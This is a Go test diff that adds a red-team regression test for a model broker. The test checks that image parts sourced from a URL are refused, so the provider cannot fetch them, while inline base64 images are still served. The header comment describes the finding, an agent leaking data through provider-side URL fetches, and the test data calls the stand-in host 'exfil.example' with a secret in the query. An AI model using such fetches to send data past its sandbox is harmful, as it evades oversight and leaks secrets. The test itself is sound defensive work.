@@ -216,3 +216,31 @@ func TestGeminiStreamScreen(t *testing.T) {
 		})
 	}
 }
+
+// TestModelRouteRefusesProviderFetches (red team, broke → fixed; mock):
+// a content part whose source is a URL had the provider fetch it, with
+// whatever the agent put in the URL: an Anthropic image "url" source in
+// a Messages call and in a count_tokens call (which spends no tokens),
+// an OpenAI Responses input_image naming an http URL. Each reached the
+// model server before; each is now refused model_tool_refused before it
+// sees anything, and the inline (base64) form is still served.
+func TestModelRouteRefusesProviderFetches(t *testing.T) {
+	r, c := modelBroker(t, rigtest.ModelCapability, rigtest.OpenAICapability)
+	src := `{"type":"image","source":{"type":"url","url":"https://exfil.example/?d=secret"}}`
+	for _, tc := range []struct{ path, body string }{
+		{"/v1/messages", `{"model":"` + rigtest.AllowedModel + `","stream":true,"max_tokens":8,"messages":[{"role":"user","content":[` + src + `]}]}`},
+		{"/v1/messages/count_tokens?beta=true", `{"model":"` + rigtest.AllowedModel + `","messages":[{"role":"user","content":[` + src + `]}]}`},
+		{"/v1/responses", `{"model":"` + rigtest.OpenAIModel + `","stream":true,"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://exfil.example/?d=secret"}]}]}`},
+	} {
+		if status, got := post(t, c, "POST", tc.path, tc.body); status != 403 || !strings.Contains(got, `"refused: model_tool_refused"`) {
+			t.Errorf("%s %s: %d %q, want 403 model_tool_refused", tc.path, tc.body, status, got)
+		}
+	}
+	if n := len(r.Model.Received()); n != 0 {
+		t.Fatalf("the provider received %d requests", n)
+	}
+	inline := `{"model":"` + rigtest.AllowedModel + `","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}]}]}`
+	if status, got := post(t, c, "POST", "/v1/messages/count_tokens?beta=true", inline); status != 200 {
+		t.Errorf("an inline image counted: %d %q", status, got)
+	}
+}
